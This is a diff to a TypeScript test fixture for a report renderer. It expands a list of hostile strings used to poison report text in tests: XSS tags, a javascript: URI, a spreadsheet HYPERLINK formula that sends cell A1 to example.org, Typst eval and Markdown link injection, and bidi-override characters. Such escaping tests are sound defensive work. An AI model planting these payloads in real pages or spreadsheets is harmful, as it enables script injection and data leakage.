@@ -1,4 +1,5 @@
 import type { Block, Locale, Report } from '@tirazh/spec'
+import { moreBlocks } from './fixture-more.js'
 
 /** A report with every kind of block and value, for the tests of this package. */
 export function fixture(locale: Locale): Report {
@@ -207,19 +208,26 @@ export function fixture(locale: Locale): Report {
         data: { colour: 'red' },
         fallback: [{ type: 'paragraph', content: [say('Место печати', 'Place of the seal')] }],
       },
+      ...moreBlocks(locale),
     ],
   }
 }
 
 /** What a stranger may have put into the register. */
-export const hostile: string =
-  '"><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>\'`</style></title>{{x}}'
+export const hostile: readonly string[] = [
+  '"><img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>\'`</style></title>{{x}}',
+  'javascript:alert(1)',
+  '=HYPERLINK("http://example.org/?"&A1,"x")',
+  '#import "@preview/x" #eval("1") $x$ *a* _b_',
+  '[a](javascript:alert(1)) ![b](http://example.org/c.png) <http://example.org> | # `d`',
+  '\u202eобратно\u2069\u202e',
+]
 
 /** The report with a hostile string, or a very long word, in every text of it. */
 export function poisoned(report: Report, poison: string): Report {
   const keep: ReadonlySet<string> = new Set([
     ...['schema', 'locale', 'type', 'chart', 'as', 'status', 'tone', 'bound', 'style', 'align', 'currency'],
-    ...['asOf', 'issuedOn', 'version'],
+    ...['asOf', 'issuedOn', 'version', 'mediaType', 'base64'],
   ])
   return JSON.parse(JSON.stringify(report), (key, value) =>
     typeof value === 'string' && !keep.has(key) && !/^\d{4}-\d\d-\d\d$/.test(value)
